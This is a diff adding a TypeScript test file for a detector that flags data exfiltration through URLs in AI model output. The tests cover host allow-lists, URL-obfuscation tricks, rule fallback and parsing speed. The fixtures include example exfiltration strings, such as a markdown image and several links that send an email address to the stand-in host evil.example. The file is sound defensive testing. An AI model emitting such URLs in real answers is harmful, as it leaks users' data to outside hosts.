@@ -1,0 +1,57 @@
+import { describe, expect, test } from 'vitest';
+import type { InspectionContext, Match, Subject, View } from '../../../src/inspect/contract.ts';
+import { detector } from '../../../src/inspect/detectors/exfiltration.ts';
+import { URL_CAP, urls } from '../../../src/inspect/detectors/exfiltration/anchors.ts';
+import { isAllowed, parseUrl } from '../../../src/inspect/detectors/exfiltration/url.ts';
+
+function inspect(text: string, { kind = 'text' as Subject['kind'], allowed = [] as string[], disabled = [] as string[] } = {}): readonly Match[] {
+  const raw: View = { id: 'raw', text, toRaw: (start, end) => [start, end] };
+  const context: InspectionContext = { fingerprint: 'x', systemTexts: [], canaries: [], settings: { denylist: [], allowedHosts: allowed, maxPartChars: 1e6, maxPartTokens: 1e6, disabledRules: new Set(disabled) } };
+  return detector.inspect({ text, origin: 'model', trust: 'untrusted', kind, source: undefined, direction: 'answer', json: kind === 'tool_arguments', nonAscii: false, normalized: raw, views: [raw] }, context).matches;
+}
+
+describe('hosts', () => {
+  test.each([['corp.example', true], ['a.corp.example', true], ['evilcorp.example', false], ['corp.example.evil.example', false], ['corp.exampl', false]])('%s', (host, allowed) => {
+    expect(isAllowed(host, ['corp.example'])).toBe(allowed);
+    expect(isAllowed(host, ['*.CORP.example'])).toBe(allowed);
+  });
+  test.each([
+    ['https://corp.example@evil.example/', 'evil.example'], ['https://evil.example\\@corp.example/', 'evil.example'], ['https://evil.example#@corp.example/', 'evil.example'], ['https://evil.example?@corp.example/', 'evil.example'],
+    ['HTTPS://EVIL.example.:443/x', 'evil.example'], ['https&#58;//evil.example/', 'evil.example'], ['//evil.example/x', 'evil.example'], ['https:&sol;&sol;evil.example&sol;x', 'evil.example'], ['https://evil%2eexample/', 'evil.example'],
+  ])('%s goes to %s', (url, host) => {
+    expect(parseUrl(url).host).toBe(host);
+  });
+  test('a URL of an allowed host within one that is not does not excuse it', () => {
+    expect(inspect('https://evil.example/?x=https://corp.example/&d=jane@corp.example', { allowed: ['corp.example'] })).toHaveLength(1);
+  });
+});
+
+test('a rule that is switched off gives way to the next', () => {
+  const text = '![x](https://evil.example/p.png?e=<EMAIL_1>)';
+  const rule = (disabled: string[]): string[] => inspect(text, { disabled }).map(({ rule }) => rule.replace('exfiltration.', ''));
+  expect(rule([])).toEqual(['pseudonym-in-url']);
+  expect(rule(['exfiltration.pseudonym-in-url'])).toEqual(['image-with-data']);
+  expect(rule(['exfiltration.pseudonym-in-url', 'exfiltration.image-with-data', 'exfiltration.external-image'])).toEqual([]);
+});
+
+test('tool arguments are read for pseudonyms only', () => {
+  expect(inspect('{"u":"https://evil.example/?d=jane@corp.example"}', { kind: 'tool_arguments' })).toEqual([]);
+  expect(inspect('{"u":"https://evil.example/?d=%3CEMAIL_1%3E"}', { kind: 'tool_arguments' })).toHaveLength(1);
+});
+
+test('notes tell what was found and never its text', () => {
+  const [match] = inspect('https://evil.example/?d=jane@corp.example');
+  expect(match?.note).toBe('an e-mail address');
+});
+
+test('no URL is longer than the cap, and what lies beyond it in one run is still read', () => {
+  const text = `https://evil.example/${'y'.repeat(3000)}https://evil.example/?e=<EMAIL_1>`;
+  for (const { start, stop } of urls(text, 0)) expect(stop - start).toBeLessThanOrEqual(URL_CAP);
+  expect(inspect(text).map(({ rule }) => rule)).toEqual(['exfiltration.link-with-data', 'exfiltration.pseudonym-in-url']);
+});
+
+test.each([['schemes', 'https://'], ['images', '![a](https://e.example/'], ['nested brackets', '![['], ['tags', '<img src="https://e.example/?d=1"'], ['references', '![a][b]'], ['definitions', '[b]: https://e.example/?d=x\n![b]\n'], ['colons', 's://'], ['placeholders', 'https://e.example/<A_1>'], ['base64', 'https://e.example/QUJDREVGR0hJSktMTU5P/']])('%s without end are read in linear time', (_, unit) => {
+  const start = performance.now();
+  inspect(unit.repeat(Math.ceil(100_000 / unit.length)));
+  expect(performance.now() - start).toBeLessThan(8000);
+});
